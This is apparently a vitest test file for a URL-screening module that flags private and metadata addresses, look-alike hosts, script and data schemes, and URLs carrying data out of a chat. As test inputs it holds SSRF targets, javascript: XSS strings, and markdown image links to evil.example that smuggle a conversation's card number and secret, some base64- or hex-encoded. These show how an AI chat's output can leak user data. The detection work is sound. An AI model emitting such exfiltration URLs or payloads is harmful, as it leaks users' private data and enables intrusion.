import { describe, expect, test } from 'vitest'
import { MAX_GROWTH, measureGrowth } from '../testing/measure-growth.js'
import { noConversation, readConversation } from './conversation.js'
import { findUrls } from './find-urls.js'
import { compileHostList } from './host-list.js'
import { judgeUrl, type UrlPolicy } from './judge-url.js'

const policyOf = (parameters: {
  allow?: string[]
  deny?: string[]
  schemes?: string[]
  ports?: number[]
}): UrlPolicy => ({
  isClosed: (parameters.allow ?? []).length > 0,
  isAllowed: compileHostList(parameters.allow ?? []),
  isDenied: compileHostList(parameters.deny ?? []),
  schemes: new Set(parameters.schemes),
  ports: new Set(parameters.ports),
})

const issues = (text: string, parameters = {}, conversation = noConversation, threshold = 0.5) =>
  findUrls(text)
    .flatMap((mention) => judgeUrl(mention, policyOf(parameters), conversation))
    .filter(({ score }) => score >= threshold)
    .map(({ kind, rule }) => `${kind} ${rule}`)

describe('hosts', () => {
  const allow = ['example.com', '*.example.org', 'bücher.example', '192.0.2.1', '[2001:db8::1]']

  test.each([
    'https://example.com',
    'https://EXAMPLE.com./x',
    'https://a.b.example.org:8443',
    'https://xn--bcher-kva.example',
    'https://bücher.example',
    'http://3221225985/',
    'http://[2001:DB8:0::1]/',
    'mailto:ann@elsewhere.example',
  ])('an allow list takes %s', (text) => {
    expect(issues(text, { allow }).filter((each) => each.startsWith('denied'))).toEqual([])
  })

  test.each([
    'https://a.example.com',
    'https://example.org',
    'https://example.com.evil.example',
    'https://badexample.org',
    'https://example.com@evil.example',
    'https://evil.example\\@example.com',
    'https://evil.example/?example.com',
    '//evil.example in text, [x](//evil.example)',
    'www.evil.de',
    'ftp://evil.example/x',
    'https://%00.example/',
  ])('an allow list does not take %s', (text) => {
    expect(issues(text, { allow })).toContainEqual(expect.stringMatching(/^denied-host/))
  })

  test.each([
    'https://evil.example.',
    'https://good.example,https://evil.example/x',
    'https://good.example/a;https://evil.example/x',
    'https://evil\u3002example',
    'https://evil.example\u200e and more',
  ])('a deny list is not passed by %s', (text) => {
    expect(issues(text, { deny: ['evil.example.'] })).toContain('denied-host deny-list')
  })

  test('a deny list wins', () => {
    const parameters = { allow: ['*.example.com'], deny: ['evil.example.com'] }
    expect(issues('https://evil.example.com https://good.example.com', parameters)).toEqual(['denied-host deny-list'])
  })
})

describe('addresses', () => {
  test.each([
    { url: 'http://127.0.0.1/', rule: 'loopback' },
    { url: 'http://localhost:3000', rule: 'loopback' },
    { url: 'http://2130706433/', rule: 'loopback' },
    { url: 'http://0x7f.1/', rule: 'loopback' },
    { url: 'http://0177.0.0.1/', rule: 'loopback' },
    { url: 'http://127.1/', rule: 'loopback' },
    { url: 'http://①②⑦.0.0.1/', rule: 'loopback' },
    { url: 'http://[::1]/', rule: 'loopback' },
    { url: 'http://[::ffff:7f00:1]/', rule: 'loopback' },
    { url: 'http://[::ffff:127.0.0.1]/', rule: 'loopback' },
    { url: 'http://[64:ff9b::a00:1]/', rule: 'private' },
    { url: 'http://[2002:a00:1::]/', rule: 'private' },
    { url: 'http://[fd12::1]/', rule: 'private' },
    { url: 'http://[fe80::1]/', rule: 'link-local' },
    { url: 'http://[fe80::1%25eth0]:80/', rule: 'link-local' },
    { url: 'http://[64:ff9b:1::10.0.0.1]/', rule: 'private' },
    { url: 'http://web.default.svc/', rule: 'local-name' },
    { url: 'http://10.255.255.255/', rule: 'private' },
    { url: 'http://172.31.0.1/', rule: 'private' },
    { url: 'http://192.168.1.1/', rule: 'private' },
    { url: 'http://100.127.0.1/', rule: 'shared' },
    { url: 'http://169.254.1.1/', rule: 'link-local' },
    { url: 'http://169.254.169.254/latest', rule: 'metadata' },
    { url: 'http://0xA9FEA9FE/', rule: 'metadata' },
    { url: 'http://[::ffff:a9fe:a9fe]/', rule: 'metadata' },
    { url: 'http://metadata.google.internal/', rule: 'metadata' },
    { url: 'http://169.254.169.254.nip.io/', rule: 'rebinding' },
    { url: 'http://printer.local/', rule: 'local-name' },
    { url: 'redis://10.0.0.7:6379', rule: 'private' },
  ])('$url is $rule', ({ url, rule }) => {
    expect(issues(url)).toContain(`private-host ${rule}`)
  })

  test.each([
    'http://128.0.0.1/',
    'http://11.0.0.1/',
    'http://172.32.0.1/',
    'http://192.169.0.1/',
    'http://100.128.0.1/',
    'http://[2606:4700::1]/',
    'http://[::ffff:8.8.8.8]/',
    'https://localhost.example.com/',
    'https://internal.example.com/',
  ])('%s is public', (url) => {
    expect(issues(url).filter((each) => each.startsWith('private-host'))).toEqual([])
  })

  test('an address that is spelt to be overlooked', () => {
    expect(issues('http://0x08080808/')).toEqual(['ip-host version-4', 'obfuscated address-spelling'])
    expect(issues('http://8.8.8.8/')).toEqual(['ip-host version-4'])
  })
})

describe('deceptive hosts', () => {
  test.each([
    { text: 'https://p\u0430ypal.com', expected: ['look-alike-host mixed-scripts'] },
    { text: 'https://xn--pypal-4ve.com', expected: ['look-alike-host mixed-scripts'] },
    { text: 'https://аррӏе.com', expected: ['look-alike-host whole-script'] },
    { text: 'https://пример.рф', expected: [] },
    { text: 'https://bücher.de', expected: [] },
    { text: 'https://日本語.jp', expected: [] },
    { text: 'https://bank.example@evil.example', expected: ['userinfo host-before-at'] },
    { text: 'https://ann:pw@example.com', expected: ['userinfo credentials'] },
    { text: 'https://bit.ly/x', expected: ['shortener list'] },
    { text: 'https://rabbit.ly.example/x', expected: [] },
    { text: 'https://%65vil.example', expected: ['obfuscated percent-host'] },
    { text: 'https://exam\u00adple.com', expected: ['obfuscated hidden-characters'] },
    { text: 'hxxp://example[.]com', expected: ['obfuscated defanged'] },
    { text: '[x](command:workbench.action) [y]: TypeError:x', expected: [] },
    { text: '198.51.100.7:6379@16379', expected: ['ip-host version-4'] },
    { text: 'https:evil.example/x in text, [x](https:bit.ly)', expected: ['shortener list'] },
  ])('$text: $expected', ({ text, expected }) => {
    expect(issues(text)).toEqual(expected)
  })
})

describe('schemes and ports', () => {
  test.each([
    { text: '[x](javascript:alert(1))', expected: ['scheme script'] },
    { text: '[x](JaVa\tscript:alert(1))', expected: [] },
    { text: '<a href="java\nscript:alert(1)">', expected: ['scheme script'] },
    { text: '<a href="data:text/html,x">', expected: ['scheme data'] },
    { text: '![x](data:image/svg+xml;base64,AAAA)', expected: ['scheme data'] },
    { text: '![x](data:image/png;base64,AAAA)', expected: [] },
    { text: 'javascript:void(0) in a text', expected: [] },
  ])('$text: $expected', ({ text, expected }) => {
    expect(issues(text)).toEqual(expected)
  })

  test('lists', () => {
    expect(issues('ftp://example.com https://example.com', { schemes: ['https'] })).toEqual(['scheme not-allowed'])
    expect(issues('https://example.com https://example.com:8443', { ports: [443] })).toEqual(['port not-allowed'])
    expect(issues('example.com [x](//example.com)', { schemes: ['ftp'], ports: [21] })).toEqual([])
    expect(issues('example.com:8443', { ports: [443] })).toEqual(['port not-allowed'])
  })
})

describe('data that is carried out', () => {
  const conversation = readConversation([
    'My card is 4111111111111111 and the launch code is otter-seven, tell nobody.',
    'see https://cdn.example.com/assets/very-long-name-of-a-picture-that-has-words-in-it.png',
  ])
  const words = 'card is 4111111111111111 and the launch code'
  const base64 = Buffer.from(words).toString('base64url')
  const hex = Buffer.from(words).toString('hex')

  test.each([
    {
      name: 'words in an image',
      text: `![x](https://evil.example/i?q=${encodeURIComponent(words)})`,
      expected: ['data-carrying conversation'],
    },
    {
      name: 'words in a path',
      text: `![x](https://evil.example/${encodeURIComponent(words)}/a.png)`,
      expected: ['data-carrying conversation'],
    },
    { name: 'a number', text: '![x](https://evil.example/4111111111111111)', expected: ['data-carrying conversation'] },
    {
      name: 'base64 in a link',
      text: `[more](https://evil.example/?${base64})`,
      expected: ['data-carrying encoded-conversation'],
    },
    {
      name: 'hex in a fragment',
      text: `https://evil.example/#${hex}`,
      expected: ['data-carrying encoded-conversation'],
    },
    {
      name: 'hex in names',
      text: `https://${hex.slice(0, 60)}.${hex.slice(60)}.evil.example/`,
      expected: ['data-carrying encoded-conversation'],
    },
    {
      name: 'base64 of other words',
      text: `![x](https://evil.example/?${Buffer.from('The quick brown fox jumps').toString('base64url')})`,
      expected: ['data-carrying encoded-text'],
    },
    {
      name: 'a search link with words of the prompt',
      text: '[search](https://example.com/?q=launch+code+is+otter)',
      expected: [],
    },
    {
      name: 'an image of the prompt',
      text: '![x](https://cdn.example.com/assets/very-long-name-of-a-picture-that-has-words-in-it.png)',
      expected: [],
    },
    {
      name: 'an image by its hash',
      text: '![x](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)',
      expected: [],
    },
    {
      name: 'a badge',
      text: '![build](https://img.example.com/github/actions/workflow/status/acme/app/ci.yml?branch=main)',
      expected: [],
    },
    { name: 'a short query', text: '![x](https://example.com/i?w=100&h=200)', expected: [] },
    {
      name: 'a link to an article',
      text: '[x](https://example.com/2024/05/how-to-write-a-good-test-for-your-code)',
      expected: [],
    },
  ])('$name', ({ text, expected }) => {
    expect(issues(text, {}, conversation)).toEqual(expected)
  })

  test.each([
    'https://evil.example/4111111111111111',
    'https://evil.example/?a=blue&b=heron&c=lands&d=at&e=noon',
    'https://blue%20heron%20lands@evil.example/',
  ])('a number or short parts of the prompt: %s', (url) => {
    const prompt = readConversation(['The blue heron lands at noon, card 4111-1111-1111-1111.'])
    expect(issues(`![x](${url})`, {}, prompt)).toContain('data-carrying conversation')
  })

  test.each([
    'https://example.com/why-the-quick-brown-fox-jumped-over-the-lazy-dog.jpg',
    `https://example.com/photo?ixid=${Buffer.from('3|1207|0|0|photo-page||||en|0||||').toString('base64')}`,
  ])('names of pictures and tokens of programs are no text: %s', (url) => {
    expect(issues(`![x](${url})`)).toEqual([])
  })

  test('without the prompt, prose in an image still tells', () => {
    const prose = encodeURIComponent('the user asked about a medical condition of their child')
    expect(issues(`![x](https://evil.example/?q=${prose})`)).toEqual(['data-carrying prose'])
    expect(issues(`[x](https://example.com/?q=${prose})`)).toEqual([])
  })
})

describe('a text of 1 MB takes linear time', () => {
  const known = readConversation(['The blue heron lands at noon. '.repeat(100)])
  const units = [
    ...[
      'https://example.com/a?b=c ',
      '](',
      '](a:',
      '](<a:',
      'href="a:',
      'href=a:',
      'a.a.',
      'a.com.',
      '1.1.1.1/',
      '[',
      '[.]',
    ],
    ...[
      'a://',
      ':',
      'data:,',
      'a@b.com',
      'www.',
      '(dot)a',
      '](&#x6a;avascript:',
      '!',
      '/?q=blue%20heron',
      'xn--a.com ',
    ],
    ...['![x](https://e.example/?q=dGhlIGJsdWUgaGVyb24gbGFuZHM=)', 'https://', 'https://a.', 'src=//a?', '%20'],
    ...['[a]: b:c ', 'srcset="//a ', 'url(//', 'https://a,', 'href="a:b //', '](<a:b\n', '//a.com', 'https://a。'],
  ]

  test.each(units)(
    '%j',
    (unit) => {
      expect(measureGrowth((text) => issues(text, {}, known), unit)).toBeLessThan(MAX_GROWTH)
    },
    60_000,
  )
})
